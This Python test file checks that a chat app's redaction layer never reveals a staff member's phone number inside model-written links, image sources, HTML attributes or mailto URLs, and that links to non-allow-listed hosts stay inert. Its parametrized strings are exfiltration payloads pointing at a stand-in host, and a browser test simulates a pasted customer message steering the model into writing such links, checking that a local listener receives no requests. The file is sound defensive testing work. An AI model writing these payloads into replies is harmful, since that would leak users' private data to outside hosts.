"""Revealed values never leave the browser through a link the model wrote (issue 11, item 2).

A reply such as `[verify](http://any.host/collect?p=[PHONE_1])` must not become a link carrying the
staff member's own number: placeholders are never revealed inside a URL, link target, image source
or attribute (batch and streamed alike), and in Chromium a link to a host not on the allow-list is
inert text showing its full URL. A listener on another port must receive nothing.
"""

from __future__ import annotations

import http.server
import threading

import pytest

from redaction import Placeholders
from tests.support.app import STAFF, STAFF_PASSWORD, App
from tests.support.browser import accept_consent, assistant_texts, close_context, fresh_page, login
from tests.support.engine import FakeEngine
from tests.support.process import free_port

PHONE = "13812345678"


def vault() -> Placeholders:
    ph = Placeholders()
    assert ph.placeholder("PHONE", PHONE, revealable=True) == "[PHONE_1]"
    return ph


@pytest.mark.parametrize("text", [
    "[verify](http://any.host/collect?p=[PHONE_1])",
    "[verify](<http://any.host/a b?p=[PHONE_1]>)",
    "![pixel](http://any.host/i.png?p=[PHONE_1])",
    "[verify]( https://any.host/x?p=[PHONE_1] \"title\")",
    "see http://any.host/collect?p=[PHONE_1] now",
    "see https://any.host/a/(b)/c?p=[PHONE_1] now",
    "open www.any.host/?p=[PHONE_1]",
    "<http://any.host/?p=[PHONE_1]>",
    "<a href=\"http://any.host/?p=[PHONE_1]\">x</a>",
    "<img src=x?[PHONE_1]>",
    "[ref]: http://any.host/?p=[PHONE_1]",
    "  [ref]: /relative?p=[PHONE_1]",
    "write to [PHONE_1]@any.host",
    "write to [PHONE_1].x+y@any.host",
    "mailto:me@any.host?body=[PHONE_1]",
    "http://any.host/\u00a0[PHONE_1]",  # no ASCII space: some renderers carry the URL on
])
def test_a_placeholder_inside_a_url_or_attribute_is_never_revealed(text):
    ph = vault()
    assert ph.reveal(text) == text
    revealer = ph.revealer()
    for size in (1, 2, 3, 5, 8):
        streamed = "".join(revealer.feed(text[i:i + size]) for i in range(0, len(text), size)) + revealer.flush()
        assert streamed == text


@pytest.mark.parametrize("text, shown", [
    ("call [PHONE_1] now", f"call {PHONE} now"),
    ("[PHONE_1]，谢谢", f"{PHONE}，谢谢"),
    ("[[PHONE_1]](http://any.host/)", f"[{PHONE}](http://any.host/)"),  # link text, not its target
    ("see http://any.host/x and call [PHONE_1].", f"see http://any.host/x and call {PHONE}."),
    ("[a](http://any.host/) then [PHONE_1]", f"[a](http://any.host/) then {PHONE}"),
    ("line http://any.host/?q=\n[PHONE_1]", f"line http://any.host/?q=\n{PHONE}"),
])
def test_a_placeholder_outside_links_is_still_revealed(text, shown):
    ph = vault()
    assert ph.reveal(text) == shown
    revealer = ph.revealer()
    assert "".join(revealer.feed(c) for c in text) + revealer.flush() == shown


class _Listener:
    """An HTTP server on another port that records every request it receives."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.port = free_port()
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("links")
    engine = FakeEngine(tmp, delay=0.01)
    app = App(tmp, engine, HUSHDESK_LINK_ALLOW_HOSTS="docs.example.com")
    listener = _Listener()
    yield app, engine, listener
    listener.stop()
    app.stop()
    engine.stop()


@pytest.mark.browser
def test_model_links_are_inert_and_carry_no_revealed_value(site, browser):
    app, _, listener = site
    page = fresh_page(browser)
    login(page, app.url, STAFF, STAFF_PASSWORD)
    page.wait_for_selector("#chat-input")
    accept_consent(page)
    base = f"http://localhost:{listener.port}"  # a name: an address would itself be redacted ([IP_1])
    # The echo engine repeats the (redacted) message as its reply, in 4-character pieces: as a customer
    # message pasted into the chat could ask a model to write such links.
    page.fill("#chat-input", f"[[echo]] [verify]({base}/collect?p={PHONE}) or {base}/auto?p={PHONE} "
                             f"![px]({base}/img?p={PHONE}) [docs](https://docs.example.com/help) call {PHONE}")
    page.click("#chat-submit")
    page.wait_for_function("() => Array.from(document.querySelectorAll('[data-step-type=assistant_message]'))"
                           ".some(e => e.innerText.includes('call " + PHONE + "'))")
    page.wait_for_timeout(500)
    shown = assistant_texts(page)[-1]
    assert f"{base}/auto?p=[PHONE_1]" in shown  # an autolink: its text is its URL
    assert f"call {PHONE}" in shown  # outside the links, the staff member's own value is shown
    reply = page.locator("[data-step-type=assistant_message]").last
    assert reply.locator(f"a[href*='{listener.port}']").count() == 0
    named = reply.locator("a.hushdesk-inert-named", has_text="verify")
    # A named link shows its full URL beside its text (and in its title), placeholder unrevealed.
    assert named.evaluate("a => getComputedStyle(a, '::after').content") == f'" <{base}/collect?p=[PHONE_1]>"'
    assert named.get_attribute("title") == f"{base}/collect?p=[PHONE_1]"
    assert reply.locator("a[href='https://docs.example.com/help']").count() == 1  # on the allow-list
    for text in ("verify", f"{base}/auto"):
        page.get_by_text(text, exact=False).last.click()
    page.wait_for_timeout(1500)
    assert listener.hits == []
    assert len(page.context.pages) == 1  # nothing opened in a new tab either
    close_context(page.context)
